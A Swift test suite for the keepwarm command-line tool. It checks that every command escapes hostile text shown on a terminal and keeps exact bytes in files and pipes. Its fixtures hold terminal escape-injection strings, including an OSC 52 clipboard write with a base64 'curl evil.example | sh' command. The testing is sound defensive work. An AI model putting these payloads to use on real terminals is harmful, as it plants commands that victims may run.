import Foundation
import Testing
@testable import KeepwarmCore

/// Issue 12, section 7: every command, run on a terminal over a log full of hostile text, writes nothing a terminal
/// would act on, on standard output or standard error; files (and a pipe) keep their exact bytes.
@Suite(.serialized) struct OutputSafetyTests {
    /// Everything at once: a title set, OSC 52 (which puts text in the paste buffer), clear screen, a bracketed-paste
    /// end, an 8-bit CSI and NEL, a right-to-left override, isolates, DEL and BEL.
    static let hostile = "\u{1B}]0;PWNED\u{07}\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}\u{1B}[2J\u{1B}[201~\u{9B}31m\u{85}\u{202E}gnp\u{2066}iso\u{2069}\u{7F}"
    static func h(_ s: String) -> String { s + hostile + s }
    static let at = ["--now", "2026-11-23 10:30"]

    /// What in `bytes` a terminal would act on: any C0 control but the line ends a terminal writes (CR, LF), DEL, a
    /// C1 control, a direction control or a line/paragraph separator, each named with where it was.
    static func raw(_ bytes: [UInt8]) -> [String] {
        var found: [String] = []
        for (i, u) in String(decoding: bytes, as: UTF8.self).unicodeScalars.enumerated()
        where u != "\n" && u != "\r" && DisplayText.isUnsafe(u) {
            found.append("U+\(String(format: "%04X", u.value)) at scalar \(i)")
        }
        return found
    }

    /// A practice where hostile text sits in every field a person types, a NUL in a name (only an import can carry
    /// one), and templates and a config that carry it too.
    static func practice() throws -> (CLI, [String: String]) {
        let cli = CLI()
        let config = cli.dir + "/config"
        let env = ["XDG_CONFIG_HOME": config, "KEEPWARM_LOG": cli.log, "KEEPWARM_USER": "sam"]
        try FileManager.default.createDirectory(atPath: config + "/keepwarm", withIntermediateDirectories: true)
        try """
            mail_command = "cat > /dev/null"
            letters_dir = "\(cli.dir)/letters"
            booking_link = "https://example.com/\\u001B]52;c;eA==\\u0007"
            """.write(toFile: config + "/keepwarm/config.toml", atomically: true, encoding: .utf8)
        let setup = ["--now", "2026-11-23T08:00:00Z"]
        func ok(_ args: [String]) throws { _ = try cli.output(args + setup, env: env) }
        try ok(["init", "--name", h("Rooms")])
        try ok(["practitioner", "add", "--name", h("Anna")])
        try ok(["client", "add", "--name", h("Eve"), "--phone", "07700 900001", "--email", "eve@example.com", "--source", h("Src")])
        try ok(["client", "add", "--name", h("Mal"), "--referred-by", "c1", "--email", "mal@example.com"])
        try ok(["client", "add", "--name", h("Zed"), "--email", "zed@example.com"])
        try ok(["client", "add", "--name", h("Ida")])
        try ok(["book", "c1", "--at", "2026-11-23 10:00"])
        try ok(["book", "c2", "--at", "2026-11-23 12:00"])
        try ok(["book", "c3", "--at", "2026-09-01 10:00", "--force"])
        try ok(["attend", "a3"])
        try ok(["book", "c4", "--at", "2026-11-23 14:00"])
        try ok(["callback", "add", "--name", h("Cal"), "--phone", "07700 900777", "--reason", h("Why")])
        try ok(["touch", "c1", "--kind", "post-session", "--via", "email", "--note", h("Note")])
        try ok(["feedback", "c1", "--score", "5", "--comment", h("Said")])
        try ok(["templates", "--write"])
        let templates = config + "/keepwarm/templates"
        for f in try FileManager.default.contentsOfDirectory(atPath: templates) {
            let path = templates + "/" + f
            try (String(contentsOfFile: path, encoding: .utf8) + "\n" + h("Body") + "\n").write(toFile: path, atomically: true, encoding: .utf8)
        }
        let csv = cli.dir + "/hostile.csv"
        try Data("name,phone,source\r\nNul\u{0}Name\u{7F}\u{1B}]0;PWNED\u{07},07700 900555,\(h("Imp"))\r\n".utf8).write(to: URL(fileURLWithPath: csv))
        try ok(["import", "clients", csv, "--commit"])
        return (cli, env)
    }

    /// Every command `keepwarm --help` lists, with its subcommands, found by reading the help as a person would.
    static func leafCommands(_ cli: CLI, _ path: [String] = []) throws -> [[String]] {
        let help = try cli.output(path + ["--help"])
        guard let start = help.range(of: "SUBCOMMANDS:\n") else { return [path] }
        var leaves: [[String]] = []
        for line in help[start.upperBound...].split(separator: "\n") {
            guard line.hasPrefix("  "), !line.hasPrefix("   "), let word = line.split(separator: " ").first,
                  word.allSatisfy({ $0.isLowercase || $0 == "-" }), !path.contains(String(word)) else { continue }
            leaves += try leafCommands(cli, path + [String(word)])
        }
        return leaves
    }

    /// How each command is run: its usual answer, its `--json` (and `--csv`) forms, and a refusal that echoes
    /// hostile input. Commands that open the console are in TerminalSafetyTests and ConsoleTmuxTests.
    static func invocations(_ dir: String) -> [String: [[String]]] {
        let backup = dir + "/backup\u{1B}]0;B\u{07}.log"
        return [
            "console": [], "audit walk": [],
            "overview": [[]],
            "init": [["--log", dir + "/new\u{1B}]0;T\u{07}.log", "--name", h("New")], ["--name", h("Again")]],
            "settings": [[], ["--json"], ["--name", h("Rooms2")], ["--timezone", h("Mars")]],
            "practitioner add": [["--name", h("Ben")]], "practitioner list": [[], ["--json"]],
            "practitioner edit": [["p1", "--name", h("Anna2")]],
            "practitioner hours": [["p1", "mon=09:00-17:00"], ["p1"], ["p1", h("mon") + "=09:00-17:00"], ["p1", "tue=" + h("9")]],
            "free": [[], ["--json"], ["--practitioner", h("P")], ["--after", h("tue")]],
            "client add": [["--name", h("New"), "--source", h("S")], ["--name", "x", "--referred-by", h("Who")]],
            "client list": [[], ["--json"]],
            "client show": [["c1"], ["c1", "--json"], ["c5"], [h("Nobody")]],
            "client edit": [["c1", "--source", h("S2")]],
            "client status": [["c6", "moved-away", "--reason", h("R")]],
            "book": [["c3", "--at", "2026-11-24 10:00"], ["c2", "--at", "2026-11-23 10:00"], ["c1", "--at", h("tue")]],
            "attend": [["a1"], [h("a")]], "no-show": [["a4"]], "cancel": [["a2"]],
            "move": [["a5", "--to", "2026-11-25 11:00"], ["a1", "--to", "2026-11-23 14:00"]],
            "rebook": [["a1"]],
            "refer": [["c1", "--client", "c3"]], "thank": [["r1", "--via", "email", "--note", h("T")], ["r9"]],
            "touch": [["c2", "--kind", "check-in", "--via", "phone", "--note", h("N")]],
            "review": [["c3", "--contacted", "--note", h("Rev")]],
            "milestone": [["c1", "--kind", "goal-reached"]], "feedback": [["c2", "--score", "4", "--comment", h("C")]],
            "callback add": [["--name", h("Cb"), "--phone", "07700 900778", "--reason", h("R")]],
            "callback done": [["cb1"], ["cb9"]],
            "undo": [[], []],
            "redo": [[], []],
            "audit show": [[], ["--json"]], "audit history": [[], ["--json"]],
            "audit answer": [["1", "yes", "--note", h("A"), "--owner", h("O")]], "audit finish": [[]],
            // Written, then refused: the file's hostile name is shown made visible both times.
            "audit report": [["--out", dir + "/audit\u{1B}[2J.html"], ["--out", dir + "/audit\u{1B}[2J.html"]],
            "diary": [[], ["--json"]], "lapsed": [[], ["--json"]], "thankyous": [[], ["--json"]],
            "followups": [[], ["--json"]], "callbacks": [[], ["--json"]],
            "report sources": [[], ["--json"], ["--csv"]], "report referrers": [[], ["--json"], ["--csv"]],
            "report retention": [[], ["--json"], ["--csv"]],
            "report funnel": [[], ["--chart"]], "report density": [[]],
            "report why-left": [[], ["--json"], ["--csv"], ["--since", h("2026")]],
            "export-client": [["c1"], ["c1", "--out", dir + "/c1\u{1B}[2J.json"]],
            "export clients": [[]], "export appointments": [[]], "export events": [[]], "export ics": [[]],
            "backup": [[backup]], "restore": [[backup]],
            "check": [[]], "repair": [[]], "migrate": [["--to", dir + "/migrated.log"], ["--to", dir + "/" + h("x") + ".log"], ["--to", "postgresql://" + h("u") + "@127.0.0.1:9/" + h("d")]],
            "demo": [["--out", dir + "/demo\u{1B}]0;D\u{07}.log", "--events", "100"]],
            "import clients": [[dir + "/hostile.csv"]], "import appointments": [[dir + "/hostile.csv"]],
            "export history": [[], ["--out", dir + "/history.csv"]], "import history": [[dir + "/history.csv"], [dir + "/hostile.csv"]],
            "config": [[]], "templates": [[], ["--variables"]],
            "preview": [["c1", "--kind", "post-session"], ["--referral", "r1"]],
            "send": [["c2", "--kind", "post-session"]],
            "letter write": [["c1", "--kind", "post-session"]], "letter posted": [["c1", "--kind", "post-session"]],
            "erase": [["c4"], ["c4", "--yes"]],
            "autopilot show": [[]], "autopilot install": [[]],
            "autopilot set": [["rebook-prompt", "--auto", "email"], [h("step"), "--desk"], ["reminder", "--auto", h("fax")]],
            "autopilot window": [["09:00-17:00"], [h("9")], ["--days", h("mon")]],
            "autopilot preview": [[], ["--json"], ["--day", h("tue")]],
            "autopilot hold": [["c1"], ["c1", "--until", h("fri")]], "autopilot release": [["c1"], [h("c")]],
            "autopilot skip": [["c1", h("key")]],
            "autopilot run": [["--dry-run"], ["--dry-run", "--json"]], "autopilot unresolved": [[], ["--json"]],
            "autopilot resolve": [[h("m1"), "--sent"], ["m1", "--not-sent"]],
            "consent": [["c1", "--channel", "email", "--given", "--how", "told-desk"], ["c1", "--channel", h("e"), "--given", "--how", "told-desk"]],
            "optout": [["c2"], ["--email", h("x")], ["--phone", h("0770")]],
            "site add": [["--name", h("Site"), "--address", h("Addr")], ["--name", h("Site")]],
            "site list": [[], ["--json"]], "site rename": [["s1", "--name", h("New")], [h("s")]],
            "site edit": [["s1", "--address", h("Road")], [h("s9"), "--name", "x"]],
        ]
    }

    @Test func everyCommandOnATerminalPrintsNoRawControlCharacters() throws {
        let (cli, env) = try Self.practice()
        let table = Self.invocations(cli.dir)
        let leaves = try Self.leafCommands(cli).map { $0.joined(separator: " ") }
        #expect(leaves.count > 50, "the help lists every command: \(leaves)")
        for leaf in leaves { #expect(table[leaf] != nil, "`keepwarm \(leaf)` is not run by this test: add it to invocations") }

        var shown = "", ran = 0
        for leaf in leaves {
            for args in table[leaf] ?? [] {
                let argv = [CLI.binary] + leaf.split(separator: " ").map(String.init) + args + Self.at
                let r = try PtyRun(argv, env: env)
                ran += 1
                let name = "keepwarm \(leaf) \(args.joined(separator: " "))".debugDescription
                if case .signalled(let s) = r.status { Issue.record("\(name) died of signal \(s)") }
                #expect(Self.raw(r.out) == [], "stdout of \(name): \(String(decoding: r.out, as: UTF8.self).debugDescription.prefix(600))")
                #expect(Self.raw(r.err) == [], "stderr of \(name): \(String(decoding: r.err, as: UTF8.self).debugDescription.prefix(600))")
                shown += String(decoding: r.out + r.err, as: UTF8.self)
            }
        }
        #expect(ran >= 90)
        // The hostile text was really shown, made visible, in tables, JSON, CSV, errors and messages alike.
        for visible in ["Eve␛]0;PWNED␇␛]52;c;", "Anna␛]0;PWNED", "Body␛]0;PWNED", "Nul␀Name␡␛]0;PWNED",
                        "Eve\\u001b]0;PWNED\\u0007", "keepwarm: no client 'Nobody␛]0;PWNED"] {
            #expect(shown.contains(visible), "\(visible) was shown")
        }
        #expect(!shown.contains("PWNED\u{07}"))
    }

    /// Machine output keeps its exact bytes in a file (`--out`) and through a pipe, hostile text and all: a
    /// spreadsheet or a calendar gets what the log holds, and a script gets exact JSON.
    @Test func filesAndPipesKeepTheExactBytes() throws {
        let (cli, env) = try Self.practice()
        for kind in ["clients", "appointments", "events", "ics"] {
            let file = cli.dir + "/\(kind).out"
            let piped = try cli.run(["export", kind] + Self.at, env: env)
            #expect(piped.status == 0)
            _ = try cli.output(["export", kind, "--out", file] + Self.at, env: env)
            let saved = Array(FileManager.default.contents(atPath: file) ?? Data())
            #expect(Array(piped.out.utf8) == saved, "\(kind): a pipe gets what the file gets")
            let onTerminal = try PtyRun([CLI.binary, "export", kind] + Self.at, env: env)
            #expect(onTerminal.status == .exited(0))
            #expect(Self.raw(onTerminal.out) == [])
            let rows = String(decoding: onTerminal.out, as: UTF8.self)
            #expect(!rows.contains("␍") && !rows.contains("␊") && rows.split(separator: "\r\n").count > 3,
                    "\(kind) on a terminal keeps one row to a line: \(rows.prefix(300).debugDescription)")
            // A calendar's text may not hold control characters at all (RFC 5545), so its exporter leaves them out.
            guard kind != "ics" else { continue }
            // Events hold each event's fields as JSON, where the escape is written `\u001b`, as in the log.
            let recorded = kind == "events" ? Array(#"\u001b]52;c;"#.utf8) : Array("\u{1B}]52;c;".utf8)
            #expect(saved.firstRange(of: recorded) != nil, "\(kind) keeps the text exactly as recorded")
        }
        let names = try cli.run(["export", "clients"] + Self.at, env: env).out
        #expect(names.contains("Eve" + Self.hostile + "Eve"), "the CSV holds the name byte for byte")
        #expect(names.contains("Nul\u{0}Name\u{7F}"))
        let json = try cli.run(["client", "show", "c1", "--json"] + Self.at, env: env).out
        #expect(json.contains(#"Eve\u001b]0;PWNED\u0007"#), "JSON to a pipe is exact JSON")
    }
}
